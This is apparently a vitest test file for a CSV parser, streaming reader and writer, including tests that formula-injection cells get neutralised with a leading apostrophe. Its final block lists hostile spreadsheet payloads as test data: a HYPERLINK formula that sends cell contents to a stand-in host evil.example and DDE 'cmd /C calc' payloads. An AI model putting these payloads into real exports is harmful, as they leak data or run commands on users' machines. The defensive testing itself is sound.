import { describe, expect, it } from 'vitest';
import { CsvReader, csvField, neutraliseCell, parseCsv, writeCsv } from './csv';

const fields = (text: string) => parseCsv(text).map((r) => r.fields);

describe('parseCsv', () => {
  it('reads plain rows, with CRLF, LF or a lone CR between them', () => {
    expect(fields('a,b\r\n1,2\r\n')).toEqual([
      ['a', 'b'],
      ['1', '2'],
    ]);
    expect(fields('a,b\n1,2')).toEqual([
      ['a', 'b'],
      ['1', '2'],
    ]);
    expect(fields('a,b\r1,2\r')).toEqual([
      ['a', 'b'],
      ['1', '2'],
    ]);
  });

  it('drops a BOM and keeps empty fields, a trailing one included', () => {
    const records = parseCsv('\uFEFFstate,note\r\nx,\r\n,y\r\na,b,\r\n');
    expect(records.map((r) => r.fields)).toEqual([
      ['state', 'note'],
      ['x', ''],
      ['', 'y'],
      ['a', 'b', ''],
    ]);
    expect(records[0].fields[0]).toBe('state'); // not '\uFEFFstate'
  });

  it('reads quoted fields holding commas, doubled quotes, CRLF and LF, and counts their lines', () => {
    const text = [
      'state,note',
      '"Hello, world","said ""hi"""',
      '"two\r\nlines","and\nthree\nlines"',
      'last,"end"',
      '',
    ].join('\r\n');
    const records = parseCsv(text);
    expect(records.map((r) => r.fields)).toEqual([
      ['state', 'note'],
      ['Hello, world', 'said "hi"'],
      ['two\r\nlines', 'and\nthree\nlines'],
      ['last', 'end'],
    ]);
    // The third record spans lines 3-6 (one line break in its first field, two in its second).
    expect(records.map((r) => r.line)).toEqual([1, 2, 3, 7]);
    expect(records.every((r) => r.problem === undefined)).toBe(true);
  });

  it('keeps an empty quoted field as a record but skips blank lines', () => {
    expect(parseCsv('a\n\n""\n\nb\n').map((r) => [r.line, r.fields])).toEqual([
      [1, ['a']],
      [3, ['']],
      [5, ['b']],
    ]);
  });

  it('keeps a quote inside an unquoted field as written', () => {
    expect(fields('a,5" screen\n')).toEqual([['a', '5" screen']]);
  });

  it('reports text after a closing quote on the line of its record, and reads on', () => {
    const records = parseCsv('a,b\n"x"y,2\nok,3\n');
    expect(records[1]).toMatchObject({
      line: 2,
      problem: expect.stringContaining('text follows a closing quote'),
    });
    expect(records[2]).toEqual({ line: 3, fields: ['ok', '3'] });
  });

  it('reports a quote never closed, naming the line it opened on', () => {
    const records = parseCsv('a,b\n1,2\n3,"never\nclosed,4\n5,6\n');
    expect(records).toHaveLength(3);
    expect(records[2]).toMatchObject({
      line: 3,
      problem: 'a quoted field opened on line 3 is not closed before the end of the file',
    });
  });

  it('reads an empty file as no records', () => {
    expect(parseCsv('')).toEqual([]);
    expect(parseCsv('\uFEFF')).toEqual([]);
  });
});

/** The records of `text` read in the given pieces. */
function inPieces(pieces: string[], max?: number) {
  const reader = new CsvReader(max);
  return [...pieces.flatMap((p) => reader.push(p)), ...reader.end()];
}

describe('CsvReader', () => {
  // Each has a quoted field with CRLF and LF, a doubled quote, a lone CR, a BOM, a trailing
  // comma, text after a closing quote or a quote never closed: every split of it must read the
  // same as the whole.
  const texts = [
    '\uFEFFstate,note\r\n"Hello, world","said ""hi"""\r\n"two\r\nlines","and\nthree\nlines"\r\nlast,"end"\r\n',
    'a,b\r1,2\r\r\n"x\ry",\r\n""\n\n',
    'a,b\n"x"y,2\nok,3\n3,"never\nclosed,4\n5,6',
    'a,b,\n"",""""\r\n"q"\r',
  ];

  it('reads the same records however the text is cut, at every place and one character at a time', () => {
    for (const text of texts) {
      const whole = parseCsv(text);
      for (let cut = 0; cut <= text.length; cut++)
        expect(inPieces([text.slice(0, cut), text.slice(cut)]), `cut at ${cut}`).toEqual(whole);
      expect(inPieces([...text])).toEqual(whole);
    }
  });

  it('reads what the reader before it read, on the texts of the tests above', () => {
    expect(parseCsv(texts[0]).map((r) => r.line)).toEqual([1, 2, 3, 7]);
    expect(parseCsv(texts[1]).map((r) => [r.line, r.fields])).toEqual([
      [1, ['a', 'b']],
      [2, ['1', '2']],
      [4, ['x\ry', '']],
      [6, ['']],
    ]);
  });

  it('keeps an over-long record only as a problem at its line, and reads on after it', () => {
    const long = 'x'.repeat(50);
    const records = inPieces(['state\nshort\n"', long.slice(0, 20), long.slice(20), '\n,"\nafter\n'], 30);
    expect(records).toEqual([
      { line: 1, fields: ['state'] },
      { line: 2, fields: ['short'] },
      { line: 3, fields: [], problem: 'is longer than 30 characters, more than a case can hold' },
      { line: 5, fields: ['after'] },
    ]);
  });
});

describe('writeCsv', () => {
  it('quotes only what needs it and reads back to the same fields', () => {
    expect(csvField('plain')).toBe('plain');
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField(' edge')).toBe('" edge"');
    const rows = [
      ['state', 'note'],
      ['multi\r\nline, with "quotes"', ''],
      ['\n', ' x '],
      ['', '""'],
    ];
    const text = writeCsv(rows);
    expect(text.endsWith('\r\n')).toBe(true);
    expect(fields(text)).toEqual(rows);
  });
});

describe('CSV injection (formula cells)', () => {
  const HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
    '=1+1',
    "+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    '-2+3',
    "-cmd|' /C calc'!A0",
    '\t=1+1',
    '\r=1+1',
  ];

  it('gives every cell that starts with =, +, -, @, a tab or a CR a leading apostrophe', () => {
    for (const cell of HOSTILE) {
      expect(neutraliseCell(cell), JSON.stringify(cell)).toBe(`'${cell}`);
      // Written and read back: the apostrophe is the cell's first character, whatever quoting it needed.
      expect(fields(writeCsv([[cell]]))[0][0], JSON.stringify(cell)).toBe(`'${cell}`);
    }
    expect(writeCsv([['=1+1', '@SUM(A1)']])).toBe("'=1+1,'@SUM(A1)\r\n");
    expect(csvField('=HYPERLINK("x")')).toBe('"\'=HYPERLINK(""x"")"');
  });

  it('leaves plain negative numbers as numbers, and everything else alone', () => {
    for (const n of ['-0.5', '-12', '-3e-4', '-1.', '-.25', '-7E+2']) expect(neutraliseCell(n), n).toBe(n);
    for (const n of ['-0.5x', '-', '--1', '-1-1', '- 1', '-Infinity', '-1;2'])
      expect(neutraliseCell(n), n).toBe(`'${n}`);
    for (const plain of ['plain', '0.5', '12', '', 'a=b', "'already"])
      expect(neutraliseCell(plain), plain).toBe(plain);
  });

  it('writes every cell exactly as it is when asked for raw CSV', () => {
    const rows = [HOSTILE, ['-0.5', 'plain']];
    expect(fields(writeCsv(rows, { raw: true }))).toEqual(rows);
    expect(csvField('=1+1', { raw: true })).toBe('=1+1');
  });
});
